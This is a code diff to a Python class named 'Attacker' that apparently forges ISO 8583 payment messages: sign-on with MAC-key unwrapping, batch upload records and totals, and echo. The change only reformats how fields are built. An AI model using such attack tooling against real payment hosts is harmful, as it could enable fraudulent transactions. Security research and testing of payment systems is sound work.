@@ -227,9 +227,8 @@ class Attacker:
         return read_answer(self.sock, self.mak)
 
     def sign_on(self) -> Answer:
-        answer = self.send(
-            body("0800", {11: self.next_stan(), **self.ids(), 60: self.field60("00", "003"), 63: "01"})
-        )
+        fields: dict[int, Value] = {11: self.next_stan(), **self.ids(), 63: "01"}
+        answer = self.send(body("0800", {**fields, 60: self.field60("00", "003")}))
         if answer.code == "00":
             self.mak = unwrap_mak(self.tmk, answer.fields[62])  # type: ignore[arg-type]
             self.batch_no = str(answer.fields[60])[2:8]
@@ -281,19 +280,25 @@ class Attacker:
             f"{kind}{stan:06d}{pan:0>20}{fen:012d}" for kind, stan, pan, fen in records
         )
         fields: dict[int, Value] = {
-            11: self.next_stan(), **self.ids(), 48: data, 60: f"00{self.batch_no}201",
+            11: self.next_stan(),
+            **self.ids(),
+            48: data,
+            60: f"00{self.batch_no}201",
         }
         return self.send(self.maced("0320", fields))
 
     def upload_end(self, total: int, code: str = "207") -> Answer:
         fields: dict[int, Value] = {
-            11: self.next_stan(), **self.ids(), 48: f"{total:04d}", 60: f"00{self.batch_no}{code}",
+            11: self.next_stan(),
+            **self.ids(),
+            48: f"{total:04d}",
+            60: f"00{self.batch_no}{code}",
         }
         return self.send(self.maced("0320", fields))
 
     def echo(self) -> Answer:
-        fields: dict[int, Value] = {11: self.next_stan(), **self.ids(), 60: self.field60("00", "301")}
-        return self.send(body("0820", fields))
+        fields: dict[int, Value] = {11: self.next_stan(), **self.ids()}
+        return self.send(body("0820", {**fields, 60: self.field60("00", "301")}))
 
     def field60(self, message_type: str, network_code: str) -> str:
         return f"{message_type}{self.batch_no}{network_code}"
